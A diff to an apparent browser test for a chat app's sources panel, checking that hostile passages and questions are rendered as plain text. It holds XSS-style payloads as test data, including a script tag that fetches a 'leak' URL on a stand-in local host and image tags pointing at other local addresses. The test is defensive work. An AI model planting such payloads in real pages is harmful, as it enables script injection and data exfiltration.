@@ -114,9 +114,15 @@ def test_hostile_documents_and_questions_are_shown_as_text_and_fetch_nothing(mak
         expect(page.locator("#chat .message.user").last).to_contain_text('<img src="http://127.0.0.3:8/q.png">')
         assert page.locator("#chat img[src*='127.0.0.2'], #chat img[src*='127.0.0.3']").count() == 0
         assert page.locator("#chat b, #chat script").count() == 0
+        # The sources panel shows the passage, script tag and all, as text.
+        page.get_by_text("Settings", exact=True).first.click()
+        page.locator("#show-all input[type=checkbox]").check()
         page.fill("#question textarea", "When was the Quell pump first built?")
         page.click("#ask")
-        expect(page.locator("#chat .message.bot").last).to_contain_text("<script>", timeout=120_000)
+        expect(page.locator("#sources")).to_contain_text("<script>fetch('http://127.0.0.2:8/leak')</script>",
+                                                         timeout=120_000)
+        assert page.locator("#sources script, #sources img").count() == 0
+        assert page.locator("#sources b", has_text="two").count() == 0  # the page's own <b> marks only [n]
         page.wait_for_timeout(1000)
         page.screenshot(path=str(ARTIFACTS / "chat-hostile.png"))
         browser.close()
